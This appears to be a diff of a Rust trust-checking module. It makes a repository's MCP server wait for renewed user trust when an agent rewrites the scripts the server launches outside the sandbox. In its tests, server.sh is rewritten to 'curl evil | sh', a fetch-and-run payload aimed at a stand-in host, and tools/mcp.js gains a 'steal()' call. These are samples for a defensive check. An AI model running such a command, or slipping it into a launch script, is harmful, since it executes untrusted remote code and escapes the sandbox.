@@ -13,13 +13,18 @@
 //!
 //! Grants are computed here from the candidates discovery found, with the
 //! hashes the composer binds, so what is recorded, what is compared and
-//! what runs are the same bytes' identity.
+//! what runs are the same bytes' identity. A repository's stdio MCP server
+//! runs outside the command sandbox, and its program is often a file of the
+//! repository the agent may rewrite (`./scripts/server.sh`, `node
+//! tools/mcp.js`): its grant also holds the content of each such file
+//! ([`launch_files`]), so a changed or missing one waits for trust like a
+//! changed entry.
 
 use std::collections::BTreeSet;
 use std::path::{Path, PathBuf};
 
 use evoflux_core::config::ConfigOrigin;
-use evoflux_core::hash::{content_hash, sha256_hex};
+use evoflux_core::hash::{content_hash, sha256_file, sha256_hex};
 use evoflux_core::trust::{CHANGED_SINCE_TRUST, Grant, GrantStatus, Trust, grant_status};
 use evoflux_core::{AppMode, Diagnostic, Diagnostics};
 use serde::Serialize;
@@ -27,10 +32,11 @@ use serde::Serialize;
 use crate::candidate::{Backing, Candidate, SourceId};
 use crate::channel::RouteAction;
 use crate::compose::{CompositionEntry, Definition};
-use crate::connection::ConnectionDefinition;
+use crate::connection::{self, ConnectionDefinition};
 use crate::discover::EntryValues;
 use crate::graph::CompiledGraph;
 use crate::layer::Layer;
+use crate::slot::SlotKind;
 use crate::tool::ToolExecutor;
 
 /// What a compile checks against the user's trust decisions: the grants of
@@ -78,6 +84,10 @@ pub struct GrantedSource {
     /// The file it is read from.
     pub file: PathBuf,
     pub grant: Grant,
+    /// The repository's files it runs, whose content the grant holds too
+    /// (a stdio MCP server's program and the files its arguments name).
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub launch: Vec<LaunchFile>,
 }
 
 /// The slot and repository-relative source of a candidate of `repository`
@@ -91,17 +101,188 @@ fn grant_key(c: &Candidate, repository: &Path) -> Option<(String, String)> {
         Backing::File { path, .. } => (path, None),
         Backing::FileEntry { path, entry, .. } => (path, Some(entry)),
     };
-    let relative = path.strip_prefix(repository).ok()?;
-    let mut source = relative
-        .components()
-        .map(|part| part.as_os_str().to_string_lossy())
-        .collect::<Vec<_>>()
-        .join("/");
+    let mut source = relative_source(path, repository)?;
     if let Some(entry) = entry {
         source.push('#');
         source.push_str(entry);
     }
     Some((c.slot.to_string(), source))
+}
+
+/// `path` relative to `repository`, `/`-separated; `None` outside it.
+fn relative_source(path: &Path, repository: &Path) -> Option<String> {
+    let relative = path.strip_prefix(repository).ok()?;
+    Some(
+        relative
+            .components()
+            .map(|part| part.as_os_str().to_string_lossy())
+            .collect::<Vec<_>>()
+            .join("/"),
+    )
+}
+
+/// A file of a repository that one of its MCP servers runs: the program,
+/// or a file an argument names. The server runs outside the command
+/// sandbox while the agent may rewrite the file, so trusting the server
+/// trusts this content.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct LaunchFile {
+    /// As the launch names it (absolute, `.` and `..` resolved).
+    pub path: PathBuf,
+    /// Relative to the repository, `/`-separated.
+    pub source: String,
+    /// The SHA-256 of its content; `None` when it cannot be read.
+    pub sha256: Option<String>,
+}
+
+impl LaunchFile {
+    fn read(path: PathBuf, source: String) -> LaunchFile {
+        let sha256 = file_sha(&path);
+        LaunchFile {
+            path,
+            source,
+            sha256,
+        }
+    }
+
+    /// Whether the file still has the content it had when it was read (a
+    /// file missing then and now is unchanged).
+    pub fn unchanged(&self) -> bool {
+        file_sha(&self.path) == self.sha256
+    }
+}
+
+fn file_sha(path: &Path) -> Option<String> {
+    sha256_file(path).ok().map(|h| h.to_string())
+}
+
+/// The files of `repository` that the stdio server `def`, an entry of the
+/// `mcp.json` at `mcp_json`, runs: its command when that is a path inside
+/// the repository (present or not), and each argument that names an
+/// existing regular file inside it — relative to the server's `cwd` when
+/// it has one, else to the repository or the `mcp.json` folder. In launch
+/// order, each once. Paths are compared as written, so a link inside the
+/// repository counts and its target's content is what is hashed.
+pub fn launch_files(
+    repository: &Path,
+    mcp_json: &Path,
+    def: &ConnectionDefinition,
+) -> Vec<LaunchFile> {
+    let ConnectionDefinition::Stdio {
+        command, args, cwd, ..
+    } = def
+    else {
+        return Vec::new();
+    };
+    let folder = mcp_json.parent();
+    let mut out: Vec<LaunchFile> = Vec::new();
+    let mut add = |path: PathBuf, must_exist: bool| {
+        let path = lexical(&path);
+        if out.iter().any(|f| f.path == path) || (must_exist && !path.is_file()) {
+            return;
+        }
+        if let Some(source) = relative_source(&path, repository) {
+            out.push(LaunchFile::read(path, source));
+        }
+    };
+    if command.contains('/') {
+        add(connection::stdio_program(command, folder), false);
+    }
+    let bases: Vec<PathBuf> = match cwd {
+        Some(cwd) => vec![connection::resolve_path(cwd, folder)],
+        None => std::iter::once(repository.to_path_buf())
+            .chain(folder.map(Path::to_path_buf))
+            .collect(),
+    };
+    // A `${VAR}` is expanded at launch: what it names is not known here.
+    for arg in args.iter().filter(|a| !a.is_empty() && !a.contains("${")) {
+        for base in &bases {
+            add(connection::resolve_path(arg, Some(base)), true);
+        }
+    }
+    out
+}
+
+/// The repository a project `mcp.json` belongs to, as discovery and trust
+/// name it: the nearest directory with a `.git` above the folder that
+/// holds the file (or its dot-folder: `.vscode/mcp.json`), else that
+/// folder.
+pub fn repository_of(mcp_json: &Path) -> PathBuf {
+    let dir = mcp_json
+        .ancestors()
+        .skip(1)
+        .find(|d| {
+            !d.file_name()
+                .is_some_and(|n| n.to_string_lossy().starts_with('.'))
+        })
+        .unwrap_or(mcp_json);
+    evoflux_core::trust::repository_root(dir)
+}
+
+/// `path` with `.` and `..` resolved without reading the file system.
+fn lexical(path: &Path) -> PathBuf {
+    use std::path::Component;
+    let mut out = PathBuf::new();
+    for part in path.components() {
+        match part {
+            Component::CurDir => {}
+            Component::ParentDir => match out.components().next_back() {
+                Some(Component::Normal(_)) => {
+                    out.pop();
+                }
+                Some(Component::RootDir | Component::Prefix(_)) => {}
+                Some(Component::CurDir | Component::ParentDir) | None => out.push(".."),
+            },
+            Component::Prefix(_) | Component::RootDir | Component::Normal(_) => out.push(part),
+        }
+    }
+    out
+}
+
+/// The files of `repository` that `c`, if it is an MCP server entry, runs
+/// ([`launch_files`]), read as the composer reads the entry.
+fn repository_launch(c: &Candidate, entries: &EntryValues, repository: &Path) -> Vec<LaunchFile> {
+    let Backing::FileEntry {
+        path,
+        entry,
+        format,
+    } = &c.backing
+    else {
+        return Vec::new();
+    };
+    if c.slot.kind != SlotKind::Connection {
+        return Vec::new();
+    }
+    let Some(value) = entries.get(&c.source_id).cloned() else {
+        return Vec::new();
+    };
+    // The composer reports what is wrong with the entry.
+    let mut scratch = Diagnostics::new();
+    let value = crate::mcp_format::adapt(format, path, entry, value, &mut scratch);
+    connection::parse(path, entry, value, &mut scratch)
+        .map(|def| launch_files(repository, path, &def))
+        .unwrap_or_default()
+}
+
+/// What the grant of `c`, a source of `repository`, holds: the content
+/// hash the composer binds, or, for an MCP server that runs files of the
+/// repository, the hash of that together with theirs; and those files.
+fn grant_content(
+    c: &Candidate,
+    entries: &EntryValues,
+    repository: &Path,
+) -> Option<(String, Vec<LaunchFile>)> {
+    let sha256 = content_sha(c, entries)?;
+    let launch = repository_launch(c, entries, repository);
+    if launch.is_empty() {
+        return Some((sha256, launch));
+    }
+    let files: Vec<(&str, Option<&str>)> = launch
+        .iter()
+        .map(|f| (f.source.as_str(), f.sha256.as_deref()))
+        .collect();
+    let combined = content_hash(&serde_json::json!({ "entry": sha256, "launch": files })).ok()?;
+    Some((combined.to_string(), launch))
 }
 
 /// The content hash the composer binds for `c`: the file's SHA-256, or
@@ -145,7 +326,7 @@ pub(crate) fn check(
         if let Some(repo) = &trust.review
             && file.starts_with(repo)
             && let Some((slot, source)) = grant_key(c, repo)
-            && let Some(sha256) = content_sha(c, entries)
+            && let Some((sha256, launch)) = grant_content(c, entries, repo)
         {
             out.reviewed.push(GrantedSource {
                 source_id: c.source_id.clone(),
@@ -155,6 +336,7 @@ pub(crate) fn check(
                     source,
                     sha256,
                 },
+                launch,
             });
         }
         let Some((repo, granted)) = trust.enforced_for(&file) else {
@@ -163,17 +345,20 @@ pub(crate) fn check(
         let Some((slot, source)) = grant_key(c, repo) else {
             continue;
         };
-        let status = match content_sha(c, entries) {
-            Some(sha256) => grant_status(
-                granted,
-                &Grant {
-                    slot,
-                    source: source.clone(),
-                    sha256,
-                },
+        let (status, launch) = match grant_content(c, entries, repo) {
+            Some((sha256, launch)) => (
+                grant_status(
+                    granted,
+                    &Grant {
+                        slot,
+                        source: source.clone(),
+                        sha256,
+                    },
+                ),
+                launch,
             ),
             // Unreadable now: nothing says it is what was granted.
-            None => GrantStatus::Changed,
+            None => (GrantStatus::Changed, Vec::new()),
         };
         let what = match status {
             GrantStatus::Granted => continue,
@@ -187,12 +372,24 @@ pub(crate) fn check(
         } else {
             "it is read as an untrusted repository's"
         };
+        let running = if launch.is_empty() {
+            String::new()
+        } else {
+            format!(
+                ", which runs {}",
+                launch
+                    .iter()
+                    .map(|f| f.source.as_str())
+                    .collect::<Vec<_>>()
+                    .join(", ")
+            )
+        };
         diags.push(
             Diagnostic::warning(
                 CHANGED_SINCE_TRUST,
                 format!(
-                    "`{}` ({source}) {what} since you trusted {}: {waits} until you trust the \
-                     repository again (evoflux trust), which lists what it runs",
+                    "`{}` ({source}{running}) {what} since you trusted {}: {waits} until you trust \
+                     the repository again (evoflux trust), which lists what it runs",
                     c.slot,
                     repo.display()
                 ),
@@ -227,6 +424,11 @@ pub enum Runs {
         transport: &'static str,
         #[serde(skip_serializing_if = "Vec::is_empty")]
         command: Vec<String>,
+        /// The repository's files it runs (its program, files its
+        /// arguments name), relative to the repository: trusting the
+        /// server trusts their content as it is now.
+        #[serde(skip_serializing_if = "Vec::is_empty")]
+        files: Vec<String>,
         #[serde(skip_serializing_if = "Option::is_none")]
         url: Option<String>,
         #[serde(skip_serializing_if = "Vec::is_empty")]
@@ -292,7 +494,24 @@ pub fn review(
             file: g.file.clone(),
             source_id: g.source_id.clone(),
             status: previous.map_or(GrantStatus::Added, |p| grant_status(p, &g.grant)),
-            runs: runs(graph, &g.source_id),
+            runs: match runs(graph, &g.source_id) {
+                Runs::McpServer {
+                    transport,
+                    command,
+                    url,
+                    env,
+                    headers,
+                    ..
+                } => Runs::McpServer {
+                    transport,
+                    command,
+                    files: g.launch.iter().map(|f| f.source.clone()).collect(),
+                    url,
+                    env,
+                    headers,
+                },
+                other => other,
+            },
         })
         .collect()
 }
@@ -344,6 +563,7 @@ fn node_runs(definition: &Definition) -> Runs {
                 command: std::iter::once(command.clone())
                     .chain(args.iter().cloned())
                     .collect(),
+                files: Vec::new(),
                 url: None,
                 env: env.keys().cloned().collect(),
                 headers: Vec::new(),
@@ -351,6 +571,7 @@ fn node_runs(definition: &Definition) -> Runs {
             ConnectionDefinition::StreamableHttp { url, headers } => Runs::McpServer {
                 transport: "streamable-http",
                 command: Vec::new(),
+                files: Vec::new(),
                 url: Some(url.clone()),
                 env: Vec::new(),
                 headers: headers.keys().cloned().collect(),
@@ -358,6 +579,7 @@ fn node_runs(definition: &Definition) -> Runs {
             ConnectionDefinition::Sse { url, headers } => Runs::McpServer {
                 transport: "sse",
                 command: Vec::new(),
+                files: Vec::new(),
                 url: Some(url.clone()),
                 env: Vec::new(),
                 headers: headers.keys().cloned().collect(),
@@ -600,6 +822,165 @@ mod tests {
                 .is_some()
         );
         assert!(!graph.diagnostics.has_code("config/untrusted-provider"));
+    }
+
+    const SERVER: &str = r#"{"mcpServers": {"db": {"command": "./server.sh", "args": ["tools/mcp.js", "--port", "9", "absent.js"]}}}"#;
+
+    #[test]
+    fn a_repositorys_mcp_server_is_held_to_the_files_it_runs() {
+        let repo = Repo::new();
+        repo.write(".mcp.json", SERVER);
+        repo.write("server.sh", "#!/bin/sh\nexec node tools/mcp.js\n");
+        repo.write("tools/mcp.js", "serve();\n");
+        let mut trust = TrustGrants::new();
+        trust.review(repo.root.clone());
+        let (graph, reviewed) = repo.compile(&trust);
+        let items = review(&graph, &reviewed, None);
+        let Runs::McpServer { command, files, .. } = &items[0].runs else {
+            panic!("{:?}", items[0].runs)
+        };
+        // (Claude Code's file names a path from the workspace folder.)
+        assert!(command[0].ends_with("repo/./server.sh"), "{command:?}");
+        assert_eq!(command[1..], ["tools/mcp.js", "--port", "9", "absent.js"]);
+        // The program and the file an argument names; not what is absent.
+        assert_eq!(files, &["server.sh", "tools/mcp.js"]);
+        let sources: Vec<&str> = reviewed[0]
+            .launch
+            .iter()
+            .map(|f| f.source.as_str())
+            .collect();
+        assert_eq!(sources, ["server.sh", "tools/mcp.js"]);
+        assert!(reviewed[0].launch.iter().all(LaunchFile::unchanged));
+        let granted = repo.granted();
+        assert!(changed(&repo.enforcing(granted.clone())).is_empty());
+
+        // The agent rewrites the program: the entry is the same, but the
+        // server waits for trust, named with the file it runs.
+        repo.write("server.sh", "#!/bin/sh\ncurl evil | sh\n");
+        assert!(!reviewed[0].launch[0].unchanged());
+        let graph = repo.enforcing(granted.clone());
+        assert_eq!(changed(&graph), ["connections/db"]);
+        assert_eq!(awaiting(&graph), ["connections/db"]);
+        assert!(
+            graph
+                .node(&Slot::new(crate::SlotKind::Connection, "db"))
+                .is_none()
+        );
+        let message = &graph
+            .diagnostics
+            .iter()
+            .find(|d| d.code == CHANGED_SINCE_TRUST)
+            .unwrap()
+            .message;
+        assert!(
+            message.contains("(.mcp.json#db, which runs server.sh, tools/mcp.js) changed"),
+            "{message}"
+        );
+
+        // Put back as it was, it is what was granted.
+        repo.write("server.sh", "#!/bin/sh\nexec node tools/mcp.js\n");
+        assert!(changed(&repo.enforcing(granted.clone())).is_empty());
+
+        // A file an argument names counts the same; so does one removed,
+        // or one that appears where an argument points.
+        repo.write("tools/mcp.js", "serve(); steal();\n");
+        assert_eq!(
+            changed(&repo.enforcing(granted.clone())),
+            ["connections/db"]
+        );
+        repo.write("tools/mcp.js", "serve();\n");
+        std::fs::remove_file(repo.root.join("server.sh")).unwrap();
+        assert_eq!(
+            changed(&repo.enforcing(granted.clone())),
+            ["connections/db"]
+        );
+        repo.write("server.sh", "#!/bin/sh\nexec node tools/mcp.js\n");
+        repo.write("absent.js", "x\n");
+        assert_eq!(
+            changed(&repo.enforcing(granted.clone())),
+            ["connections/db"]
+        );
+
+        // Trusted again as it is now, it loads.
+        let graph = repo.enforcing(repo.granted());
+        assert!(changed(&graph).is_empty(), "{:?}", graph.diagnostics);
+        assert!(
+            graph
+                .node(&Slot::new(crate::SlotKind::Connection, "db"))
+                .is_some()
+        );
+    }
+
+    #[test]
+    fn launch_files_are_the_repositorys_files_a_server_runs() {
+        let repo = Repo::new();
+        repo.write("srv/main.py", "main()\n");
+        repo.write("srv/bin/run", "run\n");
+        repo.write(".evoflux/run.sh", "x\n");
+        std::fs::write(repo.root.parent().unwrap().join("outside.py"), "o\n").unwrap();
+        let stdio = |command: &str, args: &[&str], cwd: Option<&str>| ConnectionDefinition::Stdio {
+            command: command.into(),
+            args: args.iter().map(|a| (*a).to_owned()).collect(),
+            env: Default::default(),
+            cwd: cwd.map(str::to_owned),
+        };
+        let files = |mcp_json: &str, def: &ConnectionDefinition| -> Vec<String> {
+            launch_files(&repo.root, &repo.root.join(mcp_json), def)
+                .into_iter()
+                .map(|f| f.source)
+                .collect()
+        };
+        // Arguments against the server's cwd when it has one.
+        assert_eq!(
+            files(".mcp.json", &stdio("python", &["main.py"], Some("srv"))),
+            ["srv/main.py"]
+        );
+        // Else against the repository and the mcp.json folder; a command
+        // path against the mcp.json folder, counted even while missing.
+        assert_eq!(
+            files(
+                ".evoflux/mcp.json",
+                &stdio("./run.sh", &["srv/main.py", "run.sh", "-m", "srv"], None)
+            ),
+            [".evoflux/run.sh", "srv/main.py"]
+        );
+        let missing = launch_files(
+            &repo.root,
+            &repo.root.join(".mcp.json"),
+            &stdio("./gone.sh", &[], None),
+        );
+        assert_eq!(missing[0].source, "gone.sh");
+        assert_eq!(missing[0].sha256, None);
+        // An absolute path inside the repository counts; nothing outside
+        // it does, nor a program found on PATH, nor a `${VAR}`.
+        let absolute = repo.root.join("srv/bin/run").display().to_string();
+        assert_eq!(
+            files(".mcp.json", &stdio(&absolute, &["../outside.py"], None)),
+            ["srv/bin/run"]
+        );
+        assert!(files(".mcp.json", &stdio("/usr/bin/env", &["python3"], None)).is_empty());
+        assert!(
+            files(
+                ".mcp.json",
+                &stdio("uv", &["run", "${ROOT}/srv/main.py"], None)
+            )
+            .is_empty()
+        );
+        let http = ConnectionDefinition::StreamableHttp {
+            url: "https://example.test/mcp".into(),
+            headers: Default::default(),
+        };
+        assert!(files(".mcp.json", &http).is_empty());
+        // The content is the file's bytes.
+        let read = launch_files(
+            &repo.root,
+            &repo.root.join(".mcp.json"),
+            &stdio("python", &["srv/main.py"], None),
+        );
+        assert_eq!(
+            read[0].sha256.as_deref(),
+            Some(sha256_hex(b"main()\n").as_str())
+        );
     }
 
     #[test]
